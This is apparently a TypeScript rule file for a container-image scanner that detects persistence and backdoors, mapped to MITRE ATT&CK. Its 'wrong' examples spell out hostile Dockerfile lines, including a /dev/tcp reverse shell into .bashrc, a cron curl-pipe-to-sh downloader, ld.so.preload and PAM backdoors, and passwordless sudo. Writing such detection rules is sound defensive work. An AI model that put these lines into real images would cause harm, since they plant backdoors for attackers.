import type { RuleDoc } from '../../model/check.ts';
import type { Rule } from '../rule.ts';
import { sightingRule } from './sighting-rule.ts';

const ATTACK = 'https://attack.mitre.org/techniques';
const COMPLETIONS = 'usr/share/bash-completion/';
const LOOK = 'Find out who put it there, and remove it if nobody needs it.';

type Short = Omit<RuleDoc, 'kind' | 'remediation' | 'aliases'> & Partial<Pick<RuleDoc, 'remediation' | 'aliases'>>;

function documented({ remediation = LOOK, aliases = [], ...rest }: Short): RuleDoc {
  return { ...rest, kind: 'persistence', remediation, aliases };
}

/** Rules about what stands at places where things start by themselves. */
export const placeRules: readonly Rule[] = [
  sightingRule(
    documented({
      id: 'backdoor-command',
      title: 'Something that starts by itself connects a shell, or mines',
      severity: 'critical',
      why: 'Schedules, start scripts, files that shells read and their like run without anybody asking. One that opens a shell to a host is a back door.',
      remediation: 'Do not run the image; find out who built it.',
      aliases: [
        'veinmind:backdoor:bashrc',
        'veinmind:backdoor:cron',
        'veinmind:backdoor:inetd',
        'veinmind:backdoor:xinetd',
        'veinmind:backdoor:startup',
        'veinmind:backdoor:tcpwrapper',
      ],
      example: {
        wrong: 'RUN echo "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1" >> /root/.bashrc',
        right: '# there is no right way',
      },
      sources: [`${ATTACK}/T1546/`, `${ATTACK}/T1059/004/`],
      caveats: 'Texts are read, not run: what they build out of parts is not seen.',
    }),
    { owned: true, hidden: true },
  ),
  sightingRule(
    documented({
      id: 'download-and-run',
      title: 'Something that starts by itself runs what it fetches or decodes',
      severity: 'high',
      why: 'What runs is not in the image, and whoever has the server, or the way to it, decides.',
      remediation: 'Put what is needed into the image, and check its digest.',
      aliases: ['veinmind:backdoor:cron', 'veinmind:backdoor:bashrc'],
      example: {
        wrong: 'RUN echo "@reboot root curl -s http://192.0.2.1/x | sh" > /etc/cron.d/x',
        right: 'COPY job.sh /usr/local/bin/',
      },
      sources: [`${ATTACK}/T1105/`],
    }),
    {
      owned: true,
      hidden: true,
      // Completions of packages ask programs and servers for words, and there are thousands.
      except: (view, { path }, layer) => path.startsWith(COMPLETIONS) && view.bringerOf(layer, path) !== undefined,
    },
  ),
  sightingRule(
    documented({
      id: 'runs-from-temporary',
      title: 'Something that starts by itself runs a program of a directory that everybody may write',
      severity: 'medium',
      why: 'Every user can put another program in its place, which then runs with the rights of whoever starts it.',
      remediation: 'Keep programs where root alone may write.',
      example: { wrong: 'RUN echo "/tmp/start.sh" >> /etc/rc.local', right: 'CMD ["/usr/local/bin/start"]' },
    }),
  ),
  sightingRule(
    documented({
      id: 'cron-entry',
      title: 'A job of cron that no package brought',
      severity: 'low',
      why: 'It runs by itself where the container runs cron. Attackers stay that way; few images need it.',
      remediation: 'Let whoever runs containers start jobs (a CronJob of Kubernetes, a timer of the host).',
      aliases: ['veinmind:backdoor:cron'],
      example: { wrong: 'COPY job /etc/cron.d/job', right: 'CMD ["/usr/local/bin/job"]' },
      sources: [`${ATTACK}/T1053/003/`],
      caveats: 'Images whose purpose is a schedule do it on purpose.',
    }),
  ),
  sightingRule(
    documented({
      id: 'systemd-unit',
      title: 'A unit of systemd that no package brought',
      severity: 'negligible',
      why: 'It runs where systemd is process 1, which few containers have.',
      example: { wrong: 'COPY x.service /etc/systemd/system/', right: 'CMD ["/usr/local/bin/x"]' },
      sources: [`${ATTACK}/T1543/002/`],
    }),
    { once: true },
  ),
  sightingRule(
    documented({
      id: 'init-script',
      title: 'A start script that no package brought',
      severity: 'negligible',
      why: 'It runs where an init system is process 1.',
      aliases: ['veinmind:backdoor:startup'],
      example: { wrong: 'COPY rc.local /etc/rc.local', right: 'CMD ["/usr/local/bin/x"]' },
      sources: [`${ATTACK}/T1037/004/`],
    }),
  ),
  sightingRule(
    documented({
      id: 'shell-startup',
      title: 'A file that every shell reads is not from a package',
      severity: 'negligible',
      why: 'What stands in it runs whenever somebody opens a shell in the container.',
      aliases: ['veinmind:backdoor:bashrc'],
      example: { wrong: 'COPY x.sh /etc/profile.d/', right: 'ENV PATH=/opt/x/bin:$PATH' },
      sources: [`${ATTACK}/T1546/004/`],
      caveats: 'Files in the homes of users are told where they do something odd only.',
    }),
    {
      except: (view, { path }, layer) =>
        // A script of the package copies it.
        path === 'etc/profile' &&
        view.packages.some(({ name, layer: of }) => name === 'base-files' && of.index === layer),
    },
  ),
  sightingRule(
    documented({
      id: 'ld-so-preload',
      title: 'Every program loads a library that it was not linked with',
      severity: 'high',
      why: '/etc/ld.so.preload puts code into every program. Rootkits hide files and processes that way; hardly anybody else uses it.',
      aliases: ['veinmind:backdoor:ld.so.preload'],
      example: { wrong: 'RUN echo /usr/lib/x.so > /etc/ld.so.preload', right: 'ENV LD_PRELOAD=/usr/lib/x.so' },
      sources: [`${ATTACK}/T1574/006/`, 'https://man7.org/linux/man-pages/man8/ld.so.8.html'],
      caveats: 'Images for single-board computers have a library for their processor there.',
    }),
    { owned: true, hidden: true },
  ),
  sightingRule(
    documented({
      id: 'linker-path',
      title: 'Libraries are looked for where others may write',
      severity: 'high',
      why: 'Whoever puts a library of the right name there has it loaded by every program.',
      remediation: 'Take the directory out of /etc/ld.so.conf.d.',
      example: {
        wrong: 'RUN echo /tmp/lib > /etc/ld.so.conf.d/x.conf',
        right: 'RUN echo /opt/x/lib > /etc/ld.so.conf.d/x.conf',
      },
      sources: [`${ATTACK}/T1574/`],
    }),
    { owned: true },
  ),
  sightingRule(
    documented({
      id: 'pam-exec',
      title: 'A program runs at each login (pam_exec)',
      severity: 'high',
      why: 'It is given the password where it asks for it (expose_authtok), and runs as root.',
      example: {
        wrong: 'RUN echo "auth optional pam_exec.so /x.sh" >> /etc/pam.d/sshd',
        right: '# leave PAM as it is',
      },
      sources: [`${ATTACK}/T1556/003/`],
    }),
  ),
  sightingRule(
    documented({
      id: 'pam-lets-in',
      title: 'PAM lets everybody in',
      severity: 'high',
      why: 'With pam_permit as sufficient for auth no password is asked for.',
      example: { wrong: 'RUN sed -i "1i auth sufficient pam_permit.so" /etc/pam.d/su', right: '# leave PAM as it is' },
      sources: [`${ATTACK}/T1556/003/`],
      caveats: 'Some images do that for `su` or `chsh`, which only users of the container can call.',
    }),
  ),
  sightingRule(
    documented({
      id: 'pam-module',
      title: 'PAM loads a module from an odd place',
      severity: 'high',
      why: 'A module sees all passwords and decides who comes in.',
      example: { wrong: 'RUN echo "auth required /opt/x.so" >> /etc/pam.d/sshd', right: '# leave PAM as it is' },
      sources: [`${ATTACK}/T1556/003/`],
    }),
  ),
  sightingRule(
    documented({
      id: 'pam-changed',
      title: 'A configuration of PAM is not as a package brought it',
      severity: 'negligible',
      why: 'It decides who comes in and what runs then.',
      example: { wrong: 'RUN sed -i s/required/optional/ /etc/pam.d/su', right: '# leave PAM as it is' },
      caveats:
        'Scripts of packages write common-auth and its like, which no package owns: these are told where they hold something odd only.',
    }),
    {
      except: (view, { path }) =>
        view.ownerOf(path) === undefined &&
        /\/(?:common-|system-auth|password-auth|postlogin|fingerprint-auth|smartcard-auth)/.test(path),
    },
  ),
  sightingRule(
    documented({
      id: 'authorized-key',
      title: 'Whoever has a key may log in to containers',
      severity: 'high',
      why: 'All containers of the image let the same key in, for as long as the image is used.',
      remediation: 'Remove it; mount keys where a container really needs SSH.',
      example: { wrong: 'COPY id.pub /root/.ssh/authorized_keys', right: '# use docker exec, or mount the keys' },
      sources: [`${ATTACK}/T1098/004/`],
    }),
    { owned: true },
  ),
  sightingRule(
    documented({
      id: 'sudoers-without-password',
      title: 'A user may become root without a password',
      severity: 'high',
      why: 'The user is root in all but name: whoever gets at the program that runs as this user has the container.',
      remediation: 'Do what needs root in the build, and leave sudo out.',
      aliases: ['veinmind:escape:priv', 'veinmind:privilege-escalation'],
      example: { wrong: 'RUN echo "app ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', right: 'USER app' },
      sources: [`${ATTACK}/T1548/003/`, 'https://gtfobins.github.io/'],
      caveats: 'Images of development environments do it on purpose.',
    }),
  ),
  sightingRule(
    documented({
      id: 'sudoers-everything',
      title: 'A user may become root by sudo',
      severity: 'medium',
      why: 'Its password, which is in the image or given to the container, is that of root.',
      remediation: 'Do what needs root in the build, and leave sudo out.',
      aliases: ['veinmind:privilege-escalation'],
      example: { wrong: 'RUN echo "app ALL=(ALL) ALL" >> /etc/sudoers', right: 'USER app' },
      sources: ['https://gtfobins.github.io/'],
    }),
  ),
  sightingRule(
    documented({
      id: 'network-service-hook',
      title: 'A program runs when somebody connects',
      severity: 'medium',
      why: 'inetd, xinetd and hosts.allow start programs for whoever connects; a container needs none of them.',
      aliases: ['veinmind:backdoor:inetd', 'veinmind:backdoor:xinetd', 'veinmind:backdoor:tcpwrapper'],
      example: {
        wrong: 'RUN echo "ALL: ALL: spawn (/x.sh)" >> /etc/hosts.allow',
        right: 'CMD ["/usr/local/bin/server"]',
      },
    }),
  ),
  sightingRule(
    documented({
      id: 'udev-command',
      title: 'A program runs when a device appears, and no package brought the rule',
      severity: 'low',
      why: 'Containers have no udev; an image of a machine has, and attackers stay that way.',
      example: { wrong: 'COPY 99-x.rules /etc/udev/rules.d/', right: '# a container needs none' },
      sources: [`${ATTACK}/T1546/017/`],
    }),
  ),
  sightingRule(
    documented({
      id: 'motd-script',
      title: 'A program runs as root when somebody logs in, and no package brought it',
      severity: 'low',
      why: 'What is in /etc/update-motd.d runs at each login.',
      example: { wrong: 'COPY 99-x /etc/update-motd.d/', right: 'COPY motd /etc/motd' },
      sources: [`${ATTACK}/T1037/`],
    }),
  ),
  sightingRule(
    documented({
      id: 'package-manager-hook',
      title: 'A command runs with the package manager, and no package brought it',
      severity: 'low',
      why: 'It runs as root in every build that installs something on top of the image.',
      example: { wrong: 'RUN echo \'DPkg::Post-Invoke {"/x.sh";};\' > /etc/apt/apt.conf.d/x', right: '# none' },
      sources: [`${ATTACK}/T1546/016/`],
      caveats: 'Commands that only remove archives, as base images of Debian have them, are not told.',
    }),
  ),
  sightingRule(
    documented({
      id: 'environment-loads',
      title: 'Programs load code by a variable that a file sets for everybody',
      severity: 'medium',
      why: 'LD_PRELOAD, BASH_ENV, PERL5OPT, NODE_OPTIONS and their like put code into programs that know nothing of it.',
      example: { wrong: 'RUN echo LD_PRELOAD=/x.so >> /etc/environment', right: 'ENV LD_PRELOAD=/usr/lib/x.so' },
      sources: [`${ATTACK}/T1574/006/`],
    }),
  ),
  sightingRule(
    documented({
      id: 'event-command',
      title: 'A program runs when something happens to the system, and no package brought it',
      severity: 'low',
      why:
        'Networks that come up, modules that are loaded, sleep, crashes, D-Bus and desktops start programs by themselves, most of ' +
        'them as root. A container knows few of these events; an image of a machine does, and attackers stay that way.',
      example: { wrong: 'COPY hook /etc/network/if-up.d/', right: 'CMD ["/usr/local/bin/x"]' },
      sources: [`${ATTACK}/T1546/`, `${ATTACK}/T1037/`],
      caveats:
        'Of supervisord, logrotate and the settings of git, tmux, screen, vim and readline only what fetches, connects or runs from ' +
        'temporary directories is told: images have commands there on purpose.',
    }),
    { once: true },
  ),
  sightingRule(
    documented({
      id: 'setting-loads-code',
      title: 'Programs load code by a setting that no package brought',
      severity: 'medium',
      why: 'Engines of OpenSSL, services of nsswitch, code before every page of PHP and options of Node.js run in programs that know nothing of them.',
      example: {
        wrong: 'RUN echo "auto_prepend_file=/x.php" > /usr/local/etc/php/conf.d/x.ini',
        right: '# load it where it is needed',
      },
      sources: [`${ATTACK}/T1574/`, 'https://man7.org/linux/man-pages/man5/nsswitch.conf.5.html'],
      caveats: 'Agents that watch programs load themselves that way.',
    }),
  ),
  sightingRule(
    documented({
      id: 'polkit-lets-in',
      title: 'A rule of polkit says yes to everybody',
      severity: 'medium',
      why: 'Whoever asks may do what root may: start services, install packages.',
      example: {
        wrong: 'RUN echo "polkit.addRule(() => polkit.Result.YES)" > /etc/polkit-1/rules.d/x.rules',
        right: '# a container needs none',
      },
      sources: [`${ATTACK}/T1548/`],
      caveats: 'A rule that asks anything first is not judged.',
    }),
  ),
  sightingRule(
    documented({
      id: 'python-startup-code',
      title: 'Every Python program runs odd code when it starts',
      severity: 'high',
      why: 'Lines of .pth files and sitecustomize run before every program. One that starts programs, fetches or decodes is how stolen packages act.',
      remediation: 'Remove it, and the package that it came with; look what it did.',
      example: { wrong: 'COPY x.pth /usr/lib/python3/dist-packages/', right: 'RUN pip install x' },
      sources: [`${ATTACK}/T1546/018/`, 'https://docs.python.org/3/library/site.html'],
    }),
  ),
  sightingRule(
    documented({
      id: 'python-startup',
      title: 'Every Python program runs a line of a .pth file when it starts',
      severity: 'negligible',
      why: 'Packages use it for tools; attackers use it to stay.',
      example: { wrong: 'COPY x.pth /usr/lib/python3/dist-packages/', right: 'RUN pip install x' },
      sources: ['https://docs.python.org/3/library/site.html'],
      caveats: 'The lines of setuptools, of virtualenv and of packages that are installed to be edited are not told.',
    }),
  ),
  sightingRule(
    documented({
      id: 'git-hook',
      title: 'A repository in the image runs a program when git does something',
      severity: 'low',
      why: 'Whoever uses git in that directory runs it.',
      example: { wrong: 'COPY . /src', right: '# .git in .dockerignore' },
    }),
  ),
  sightingRule(
    documented({
      id: 'sshd-replaced',
      title: 'The SSH server is no program',
      severity: 'critical',
      why: 'A script in place of sshd is an old back door: it opens a shell for who knows a word, and calls the server for the others.',
      remediation: 'Do not run the image; find out who built it.',
      aliases: ['veinmind:backdoor:sshd'],
      example: { wrong: 'COPY sshd.sh /usr/sbin/sshd', right: '# leave the SSH server out' },
      sources: [`${ATTACK}/T1554/`],
    }),
    { owned: true, hidden: true },
  ),
  sightingRule(
    documented({
      id: 'login-leads-to-sshd',
      title: 'A link named like a login program leads to the SSH server',
      severity: 'critical',
      why: 'Started as su or chsh, sshd takes their rules of PAM, which let root in without a password.',
      remediation: 'Do not run the image; find out who built it.',
      aliases: ['veinmind:backdoor:sshd'],
      example: { wrong: 'RUN ln -sf /usr/sbin/sshd /tmp/su', right: '# there is no right way' },
      sources: [`${ATTACK}/T1556/003/`],
    }),
    { owned: true, hidden: true },
  ),
  sightingRule(
    documented({
      id: 'sshd-lets-in',
      title: 'The SSH server lets in whom others keep out',
      severity: 'medium',
      why: 'Empty passwords, root with a password, or keys from odd places open a container that has a server.',
      remediation: 'Leave the SSH server out: docker exec does the same.',
      example: { wrong: 'RUN echo "PermitRootLogin yes" >> /etc/ssh/sshd_config', right: '# leave the SSH server out' },
      sources: ['https://man.openbsd.org/sshd_config'],
    }),
  ),
  sightingRule(
    documented({
      id: 'rootkit-file',
      title: 'A file that is known of a rootkit or of malware',
      severity: 'critical',
      why: 'No distribution has a file of this name at this place.',
      remediation: 'Do not run the image; find out who built it.',
      aliases: ['veinmind:backdoor:rootkit'],
      example: { wrong: 'COPY libprocesshider.so /usr/local/lib/', right: '# there is no right way' },
      sources: [`${ATTACK}/T1014/`],
      caveats: 'The name alone is told: look at the file.',
    }),
    { hidden: true, owned: true },
  ),
  sightingRule(
    documented({
      id: 'file-among-devices',
      title: 'A plain file lies among devices',
      severity: 'high',
      why: 'Containers get their own /dev, so that nothing there has a use; rootkits hide files there.',
      remediation: 'Look at it, and remove it.',
      example: { wrong: 'COPY x /dev/.x', right: 'COPY x /opt/x' },
      sources: [`${ATTACK}/T1564/001/`],
      caveats: 'A redirection to /dev/null during a build without devices leaves a file, too.',
    }),
    { hidden: true },
  ),
  sightingRule(
    documented({
      id: 'engine-socket',
      title: 'The socket of a container engine is in the image',
      severity: 'medium',
      why: 'Nothing of it works in an image: it tells that containers are meant to be given the socket, and with it the host.',
      remediation: 'Do not give containers the socket of the engine.',
      aliases: [],
      example: { wrong: 'RUN touch /var/run/docker.sock', right: '# talk to the engine over a proxy that limits it' },
      sources: ['https://docs.docker.com/engine/security/protect-access/'],
      caveats: 'Volumes for it are told by the check configuration.',
    }),
  ),
  sightingRule(
    documented({
      id: 'left-over',
      title: 'Files of the build or of an editor are left in the image',
      severity: 'negligible',
      why: 'They tell how the image is made and may hold more than is known; containers need none of them.',
      remediation: 'List them in .dockerignore, or remove them in the instruction that makes them.',
      aliases: ['dockle:DKL-LI-0003'],
      example: { wrong: 'COPY . /app', right: '# .dockerignore: .git, Dockerfile, .vscode' },
      sources: ['https://docs.docker.com/build/concepts/context/#dockerignore-files'],
    }),
  ),
  sightingRule(
    documented({
      id: 'service-password-guessed',
      title: 'The password of a service is one that everybody tries',
      severity: 'high',
      why: 'It is among the first that attackers and worms try.',
      remediation: 'Give containers a password when they start.',
      aliases: ['veinmind:weakpass'],
      example: {
        wrong: 'RUN echo "requirepass redis" >> /etc/redis.conf',
        right: 'CMD ["redis-server", "/run/secrets/redis.conf"]',
      },
      caveats: 'Passwords in databases, such as the users of MySQL, are not read.',
    }),
  ),
  sightingRule(
    documented({
      id: 'service-open',
      title: 'A service is configured to let everybody in',
      severity: 'high',
      why: 'Whoever reaches the port reads and changes what it holds, and often runs commands.',
      remediation: 'Ask for a password, or listen at 127.0.0.1 alone.',
      aliases: ['veinmind:weakpass'],
      example: {
        wrong: 'RUN echo "protected-mode no" >> /etc/redis.conf',
        right: 'RUN echo "bind 127.0.0.1" >> /etc/redis.conf',
      },
    }),
  ),
];
